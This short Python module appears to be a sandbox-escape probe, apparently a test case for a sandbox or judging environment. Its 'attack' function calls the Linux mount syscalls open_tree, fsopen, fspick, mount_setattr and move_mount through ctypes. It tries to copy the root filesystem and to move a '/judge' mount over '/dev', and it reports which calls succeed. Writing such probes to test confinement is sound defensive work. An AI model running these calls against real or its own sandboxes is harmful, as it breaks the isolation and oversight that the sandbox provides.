"""mount by the newer calls, which are many

Breach: a file system, a copy of a mount or a changed one. Runs with ctypes.
"""

import ctypes

RUNTIME = "peers"
CONTROL = True
# open_tree, fsopen, fspick, mount_setattr, move_mount
ATTEMPTS: tuple[tuple[int | bytes | None, ...], ...] = (
    (428, -100, b"/", 0),
    (428, -100, b"/", 1),
    (430, b"tmpfs", 0),
    (433, -100, b"/", 0),
    (442, -100, b"/", 0, None, 0),
    (429, -100, b"/judge", -100, b"/dev", 0),
)


def attack(bait: bytes) -> bytes:
    calls = ctypes.CDLL(None, use_errno=True)
    got = []
    for number, *arguments in ATTEMPTS:
        if calls.syscall(number, *arguments) >= 0:
            got.append(b"call %d" % number)
    return b" ".join(got)
